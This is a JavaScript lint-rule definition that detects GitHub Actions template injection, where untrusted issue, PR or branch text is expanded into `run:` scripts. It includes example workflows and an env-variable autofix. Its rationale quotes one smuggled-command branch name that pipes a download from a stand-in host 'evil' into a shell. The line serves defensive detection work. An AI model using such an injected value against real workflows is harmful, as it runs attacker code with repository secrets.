import { defineRule } from '@plumbline/core';
import { allSteps, ghaDomain } from '@plumbline/lang-yaml';
import { taints } from '../../lib/taint.js';
import { resourceOf, sameRepoOnly } from '../../lib/util.js';
import { envFix } from './fix.js';

export default defineRule({
  id: 'gha/no-template-injection-in-run',
  domain: ghaDomain,
  meta: {
    title: 'Attacker-controlled expression expanded into a run script',
    description:
      'A `${{ }}` expression whose text an outsider chooses (an issue or pull request title or body, a branch name, a comment, a commit message, or an `env:`/step output derived from one) is pasted into a `run:` script before the shell sees it.',
    rationale:
      'GitHub substitutes `${{ }}` into the script text, so a branch named `a";curl evil|sh;"` or a title with `$(…)` becomes shell code running with the job token and secrets. This is the most exploited GitHub Actions weakness; high because the attacker needs nothing more than a fork or an issue. Not reported in a job or step guarded by `github.event.pull_request.head.repo.full_name == github.repository` (or `head.repo.fork == false`): only people who can push branches here reach it, and they can change the workflow anyway.',
    remediation:
      'Pass the value through an environment variable and quote it in the shell: `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"`. Never paste untrusted text into the script itself.',
    category: 'security',
    severity: 'high',
    confidence: 'high',
    fixable: true,
    aliases: ['zizmor:template-injection', 'CKV_GHA_2', 'poutine:injection', 'scorecard:Dangerous-Workflow'],
    references: [
      'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    ],
    examples: {
      invalid: [
        {
          filename: '.github/workflows/triage.yml',
          code: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "New issue: \${{ github.event.issue.title }}"
`,
          errors: [{ line: 7, column: 28, endLine: 7, endColumn: 59 }],
        },
      ],
      valid: [
        {
          filename: '.github/workflows/triage.yml',
          code: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: |
          echo "New issue: $TITLE"
`,
        },
      ],
    },
  },
  check(unit, ctx) {
    for (const step of allSteps(unit)) {
      if (!step.run || sameRepoOnly(step.job, step)) continue;
      const found = step.run.expressions.flatMap((expression) => {
        const taint = taints(expression, step)[0];
        return taint ? [{ expression, taint }] : [];
      });
      // One fix for the whole step, carried by its first finding (applying it resolves them all).
      const fix =
        found.length > 0
          ? envFix(
              step,
              found.map((f) => f.expression),
            )
          : undefined;
      found.forEach(({ expression, taint }, i) => {
        const how = taint.via
          ? `\`${taint.via}\`, which carries \`${taint.source}\`,`
          : `\`${taint.source}\``;
        ctx.report({
          at: expression.loc,
          message: `${how} is expanded into this \`run:\` script; whoever controls it can run commands in the job.`,
          resource: resourceOf(step),
          // Comments cannot go inside a block scalar: an ignore comment anywhere in the step applies.
          container: step,
          evidence: expression.body,
          ...(i === 0 && fix ? { fix } : {}),
        });
      });
    }
  },
});
